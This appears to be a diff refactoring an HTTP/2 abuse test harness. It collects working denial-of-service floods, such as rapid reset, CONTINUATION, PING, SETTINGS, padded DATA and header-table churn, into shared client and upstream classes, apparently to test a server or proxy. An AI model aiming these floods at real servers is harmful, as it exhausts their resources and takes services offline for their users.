@@ -48,11 +48,52 @@ def head(i, host, path="/plain/x", fields=(), end=True, end_headers=True, method
     return h2.headers(number(i), h2.literal(h2.request_fields(method, path, host, "https", fields)), end, end_headers)
 
 
-class Client:
+class Either:
+    """What both can do alike, on a stream `id` once it has begun and does not end."""
+
+    def empty_data(self):
+        self.begin()
+        flood(self.peer, lambda i: h2.frame(h2.DATA, 0, self.id), 5 * self.n)
+
+    def padded_data(self):
+        """Nothing but padding: it is paid for, and nothing comes of it."""
+        self.begin()
+        flood(self.peer, lambda i: h2.frame(h2.DATA, h2.PADDED, self.id, b"\x01\x00"), self.n)
+
+    def ping(self):
+        self.peer.reads = False
+        flood(self.peer, lambda i: h2.ping(), 5 * self.n)
+
+    def settings(self):
+        self.peer.reads = False
+        flood(self.peer, lambda i: h2.settings({h2.MAX_CONCURRENT_STREAMS: i}), 5 * self.n)
+
+    def settings_of_many_entries(self):
+        flood(self.peer, lambda i: h2.frame(h2.SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff" * 2000), self.n // 100)
+
+    def table_flip(self):
+        flood(self.peer, lambda i: h2.settings({h2.HEADER_TABLE_SIZE: 0 if i % 2 else 65536}), self.n)
+
+    def priority(self):
+        flood(self.peer, lambda i: h2.priority(2 * (i % 4000) + 1, 2 * ((i * 7) % 4000 + 4001) + 1), 5 * self.n)
+
+    def window_update(self):
+        self.begin()
+        flood(self.peer, lambda i: h2.window_update(1) + h2.window_update(1, self.id), 5 * self.n // 2)
+
+    def unknown_frames_of_a_stream(self):
+        self.begin()
+        flood(self.peer, lambda i: h2.frame(UNKNOWN, 0, self.id, b"z" * 10), 5 * self.n)
+
+
+class Client(Either):
     """The abuse by a client, of streams that it opens at `host`."""
 
     def __init__(self, peer, host, n):
-        self.peer, self.host, self.n = peer, host, n
+        self.peer, self.host, self.id, self.n = peer, host, FIRST, n
+
+    def begin(self):
+        self.peer.send(head(0, self.host, end=False, method="POST"))
 
     def rapid_reset(self):
         flood(self.peer, lambda i: head(i, self.host) + h2.reset(number(i)), self.n)
@@ -91,35 +132,8 @@ class Client:
         self.peer.send(head(0, self.host, end_headers=False))
         flood(self.peer, lambda i: h2.frame(h2.CONTINUATION, 0, FIRST), self.n)
 
-    def empty_data(self):
-        self.peer.send(head(0, self.host, end=False, method="POST"))
-        flood(self.peer, lambda i: h2.frame(h2.DATA, 0, FIRST), 5 * self.n)
-
-    def padded_data(self):
-        """Nothing but padding: it is paid for, and nothing comes of it."""
-        self.peer.send(head(0, self.host, end=False, method="POST"))
-        flood(self.peer, lambda i: h2.frame(h2.DATA, h2.PADDED, FIRST, b"\x01\x00"), self.n)
-
     def empty_headers(self):
         flood(self.peer, lambda i: h2.frame(h2.HEADERS, h2.END_HEADERS, number(i)), self.n)
-
-    def ping(self):
-        self.peer.reads = False
-        flood(self.peer, lambda i: h2.ping(), 5 * self.n)
-
-    def settings(self):
-        self.peer.reads = False
-        flood(self.peer, lambda i: h2.settings({h2.MAX_CONCURRENT_STREAMS: i}), 5 * self.n)
-
-    def settings_of_many_entries(self):
-        flood(self.peer, lambda i: h2.frame(h2.SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff" * 2000), self.n // 100)
-
-    def priority(self):
-        flood(self.peer, lambda i: h2.priority(2 * (i % 4000) + 1, 2 * ((i * 7) % 4000 + 4001) + 1), 5 * self.n)
-
-    def window_update(self):
-        self.peer.send(head(0, self.host, end=False, method="POST"))
-        flood(self.peer, lambda i: h2.window_update(1) + h2.window_update(1, FIRST), 5 * self.n // 2)
 
     def dribble(self):
         """Fifty large answers, byte by byte."""
@@ -139,9 +153,6 @@ class Client:
 
     def cookie_crumbs(self):
         flood(self.peer, lambda i: head(i, self.host, fields=[("cookie", "")] * 1500), self.n // 100)
-
-    def table_flip(self):
-        flood(self.peer, lambda i: h2.settings({h2.HEADER_TABLE_SIZE: 0 if i % 2 else 65536}), self.n)
 
     def table_flip_within_blocks(self):
         """RFC 7541 section 6.3: the size of the table, again and again at the beginning of one block."""
@@ -164,12 +175,8 @@ class Client:
     def unknown_frames(self):
         flood(self.peer, lambda i: h2.frame(UNKNOWN, 0, 0, b"z" * 10), 5 * self.n)
 
-    def unknown_frames_of_a_stream(self):
-        self.peer.send(head(0, self.host, end=False, method="POST"))
-        flood(self.peer, lambda i: h2.frame(UNKNOWN, 0, FIRST, b"z" * 10), 5 * self.n)
 
-
-class Upstream:
+class Upstream(Either):
     """The abuse by a service, of the connection that `stream` came on."""
 
     def __init__(self, stream, n):
@@ -217,32 +224,6 @@ class Upstream:
         self.peer.send(h2.headers(self.id, h2.literal([(":status", "200")]), False, False))
         flood(self.peer, lambda i: h2.frame(h2.CONTINUATION, 0, self.id), self.n)
 
-    def empty_data(self):
-        self.begin()
-        flood(self.peer, lambda i: h2.frame(h2.DATA, 0, self.id), 5 * self.n)
-
-    def padded_data(self):
-        self.begin()
-        flood(self.peer, lambda i: h2.frame(h2.DATA, h2.PADDED, self.id, b"\x01\x00"), self.n)
-
-    def ping(self):
-        self.peer.reads = False
-        flood(self.peer, lambda i: h2.ping(), 5 * self.n)
-
-    def settings(self):
-        self.peer.reads = False
-        flood(self.peer, lambda i: h2.settings({h2.MAX_CONCURRENT_STREAMS: i}), 5 * self.n)
-
-    def settings_of_many_entries(self):
-        flood(self.peer, lambda i: h2.frame(h2.SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff" * 2000), self.n // 100)
-
-    def priority(self):
-        flood(self.peer, lambda i: h2.priority(2 * (i % 4000) + 1, 2 * ((i * 7) % 4000 + 4001) + 1), 5 * self.n)
-
-    def window_update(self):
-        self.begin()
-        flood(self.peer, lambda i: h2.window_update(1) + h2.window_update(1, self.id), 5 * self.n // 2)
-
     def dribble(self):
         """Our body, byte by byte; the settings came before the request."""
         flood(self.peer, lambda i: h2.window_update(1, self.id), self.n // 10)
@@ -254,9 +235,6 @@ class Upstream:
     def cookie_crumbs(self):
         self.peer.send(h2.headers(self.id, h2.literal([(":status", "200")] + [("set-cookie", "")] * 1200), True))
 
-    def table_flip(self):
-        flood(self.peer, lambda i: h2.settings({h2.HEADER_TABLE_SIZE: 0 if i % 2 else 65536}), self.n)
-
     def many_streams(self):
         """Heads of streams that nobody opened."""
         flood(self.peer, lambda i: h2.headers(2 * i + 101, h2.literal([(":status", "200")])), self.n // 2)
@@ -267,7 +245,3 @@ class Upstream:
     def unknown_frames(self):
         self.begin()
         flood(self.peer, lambda i: h2.frame(UNKNOWN, 0, 0, b"z" * 10), 5 * self.n)
-
-    def unknown_frames_of_a_stream(self):
-        self.begin()
-        flood(self.peer, lambda i: h2.frame(UNKNOWN, 0, self.id, b"z" * 10), 5 * self.n)
